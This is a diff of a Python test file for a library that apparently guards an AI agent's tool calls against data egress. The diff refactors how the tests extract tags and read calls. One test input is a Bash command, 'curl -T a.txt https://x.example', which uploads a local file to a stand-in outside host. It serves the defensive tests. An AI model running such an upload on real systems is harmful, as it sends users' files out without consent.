@@ -2,8 +2,8 @@
 import pytest
 
 from guards import Event, Settings
+from guards._call import call_of, read
 from guards._call.destinations import FOREIGN, SERVICE, UNKNOWN, foreign_named
-from guards._call.tools import tags
 from guards._sensitive.overlap import seen_rows
 from guards._sensitive.scan import scan
 from guards.contamination.egress import approval, approved_place, at_home, leavings, wanted, weigh
@@ -31,7 +31,7 @@ def call(tool, facts=None, **arguments):
 
 def first(event):
     given = settings()
-    return leavings(event, tags(event, given), {}, given)[0]
+    return leavings(event, call_of(event, given).tags, {}, given)[0]
 
 
 def test_an_ordinary_message_carries_nothing():
@@ -71,9 +71,9 @@ def test_a_token_at_its_home(names, place, home):
 
 
 def test_what_is_looked_up():
-    assert wanted(call("WebFetch", url="https://x.example"), {}) == ["kept:seen", "kept:asked", "kept:named", "remotes"]
-    assert "file:/p/a.txt" in wanted(call("Bash", command="curl -T a.txt https://x.example"), {})
-    assert "file:/p/up.sh" in wanted(call("Bash", command="sh up.sh"), {"scripts": ["/p/up.sh"]})
+    assert wanted(read(call("WebFetch", url="https://x.example"), settings()), {}) == ["kept:seen", "kept:asked", "kept:named", "remotes"]
+    assert "file:/p/a.txt" in wanted(read(call("Bash", command="curl -T a.txt https://x.example"), settings()), {})
+    assert "file:/p/up.sh" in wanted(read(call("Bash", command="sh up.sh"), settings()), {"scripts": ["/p/up.sh"]})
 
 
 def test_what_the_user_gave_weighs_nothing():
